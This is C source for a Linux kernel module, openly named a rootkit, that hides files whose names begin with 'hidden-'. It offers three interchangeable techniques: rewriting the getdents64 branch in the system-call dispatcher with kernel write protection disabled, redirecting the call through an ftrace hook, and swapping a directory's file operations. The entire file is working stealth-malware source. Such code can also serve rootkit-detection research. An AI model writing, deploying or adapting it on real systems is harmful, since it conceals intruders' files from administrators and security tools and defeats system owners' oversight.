// SPDX-License-Identifier: GPL-2.0
/*
 * Hides files whose names begin with PREFIX, by the methods of public rootkits, written anew:
 *	dispatch	the call of getdents64 in x64_sys_call() is made to lead here, with CR0.WP off. Rootkits wrote to the
 *			system call table before 6.9, since when the kernel does not call through it
 *	ftrace		a hook of the function tracer changes where getdents64 goes on (FTRACE_OPS_FL_IPMODIFY)
 *	data		the directory's file operations are replaced by a copy with another function in it
 */
#include <linux/fs.h>
#include <linux/ftrace.h>
#include <linux/kernel.h>
#include <linux/module.h>
#include <linux/namei.h>
#include <linux/slab.h>
#include <linux/string.h>
#include <linux/types.h>
#include <linux/uaccess.h>

/* It needs the types. */
#include <linux/dirent.h>

#include <asm/ptrace.h>
#include <asm/special_insns.h>

#define PREFIX "hidden-"
/* The compiler makes a call, or a jump if nothing comes after it. */
#define CALL_OPCODE 0xe8
#define JUMP_OPCODE 0xe9
#define BRANCH_SIZE 5
#define LONGEST SZ_64K

static char *method = "";
module_param(method, charp, 0);
/* From /proc/kallsyms: __x64_sys_getdents64; x64_sys_call, and its size. */
static ulong getdents;
module_param(getdents, ulong, 0);
static ulong dispatcher;
module_param(dispatcher, ulong, 0);
static ulong dispatcher_size;
module_param(dispatcher_size, ulong, 0);
static char *directory = "";
module_param(directory, charp, 0);

static bool is_hidden(const char *name, size_t length)
{
	return length >= strlen(PREFIX) && !memcmp(name, PREFIX, strlen(PREFIX));
}

/* Entries in a buffer of the caller's; how many bytes are left of them. */
static long filter(void __user *buffer, long length)
{
	u8 *copy = length > 0 && length <= LONGEST ? kmalloc(length, GFP_KERNEL) : NULL;
	long from, to = 0;

	if (!copy || copy_from_user(copy, buffer, length))
		goto out;
	for (from = 0; from < length;) {
		struct linux_dirent64 *entry = (struct linux_dirent64 *)(copy + from);
		unsigned short size = entry->d_reclen;

		if (!is_hidden(entry->d_name, strlen(entry->d_name))) {
			memmove(copy + to, entry, size);
			to += size;
		}
		from += size;
	}
	if (!copy_to_user(buffer, copy, to))
		length = to;
out:
	kfree(copy);
	return length;
}

typedef long system_call(const struct pt_regs *registers);

/* Behind the call of ftrace at its beginning, so that it is not hooked again. */
static system_call *original;

static long hooked_getdents(const struct pt_regs *registers)
{
	return filter((void __user *)registers->si, original(registers));
}

/* ftrace */

static void notrace on_getdents(unsigned long ip, unsigned long parent, struct ftrace_ops *ops,
				struct ftrace_regs *registers)
{
	if (!within_module(parent, THIS_MODULE))
		ftrace_regs_set_instruction_pointer(registers, (unsigned long)hooked_getdents);
}

static struct ftrace_ops ops = {
	.func = on_getdents,
	.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_RECURSION | FTRACE_OPS_FL_IPMODIFY,
};

static int hook_by_ftrace(void)
{
	int error = ftrace_set_filter_ip(&ops, getdents, 0, 0);

	return error ?: register_ftrace_function(&ops);
}

static void unhook_by_ftrace(void)
{
	unregister_ftrace_function(&ops);
	ftrace_set_filter_ip(&ops, getdents, 1, 0);
}

/* dispatch */

static u8 *site;

static void write_target(const void *function)
{
	s32 distance = (long)function - (long)(site + BRANCH_SIZE);
	unsigned long flags, cr0 = read_cr0();

	local_irq_save(flags);
	asm volatile("mov %0, %%cr0" : : "r"(cr0 & ~X86_CR0_WP) : "memory");
	memcpy(site + 1, &distance, sizeof(distance));
	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
	local_irq_restore(flags);
}

static int hook_dispatch(void)
{
	for (site = (u8 *)dispatcher; site < (u8 *)dispatcher + dispatcher_size; site++) {
		bool branch = site[0] == CALL_OPCODE || site[0] == JUMP_OPCODE;

		if (branch && site + BRANCH_SIZE + *(s32 *)(site + 1) == (u8 *)getdents) {
			write_target(hooked_getdents);
			return 0;
		}
	}
	return -ENOENT;
}

static void unhook_dispatch(void)
{
	write_target((void *)getdents);
}

/* data */

static struct inode *inode;
static const struct file_operations *before;
static struct file_operations after;

struct watched {
	struct dir_context context;
	struct dir_context *theirs;
};

static bool on_entry(struct dir_context *context, const char *name, int length, loff_t at, u64 number,
		     unsigned int type)
{
	struct watched *watched = container_of(context, struct watched, context);
	bool more;

	if (is_hidden(name, length))
		return true;
	watched->theirs->pos = context->pos;
	more = watched->theirs->actor(watched->theirs, name, length, at, number, type);
	return more;
}

static int iterate(struct file *file, struct dir_context *theirs)
{
	struct watched watched = { .context = { .actor = on_entry, .pos = theirs->pos }, .theirs = theirs };
	int error = before->iterate_shared(file, &watched.context);

	theirs->pos = watched.context.pos;
	return error;
}

static int hook_data(void)
{
	struct path path;
	int error = kern_path(directory, LOOKUP_DIRECTORY, &path);

	if (error)
		return error;
	inode = igrab(d_inode(path.dentry));
	path_put(&path);
	before = inode->i_fop;
	after = *before;
	after.iterate_shared = iterate;
	inode->i_fop = &after;
	return 0;
}

static void unhook_data(void)
{
	inode->i_fop = before;
	iput(inode);
}

static const struct method {
	const char *name;
	int (*hook)(void);
	void (*unhook)(void);
} methods[] = {
	{ "ftrace", hook_by_ftrace, unhook_by_ftrace },
	{ "dispatch", hook_dispatch, unhook_dispatch },
	{ "data", hook_data, unhook_data },
};

static const struct method *chosen;

static int __init rootkit_init(void)
{
	int i, error;

	original = (system_call *)getdents;
	for (i = 0; i < ARRAY_SIZE(methods); i++)
		if (!strcmp(method, methods[i].name))
			chosen = &methods[i];
	if (!chosen)
		return -EINVAL;
	error = chosen->hook();
	pr_info("rootkit: %s %d\n", method, error);
	return error;
}
module_init(rootkit_init);

static void __exit rootkit_exit(void)
{
	chosen->unhook();
}
module_exit(rootkit_exit);

MODULE_DESCRIPTION("Hides files");
MODULE_LICENSE("GPL");
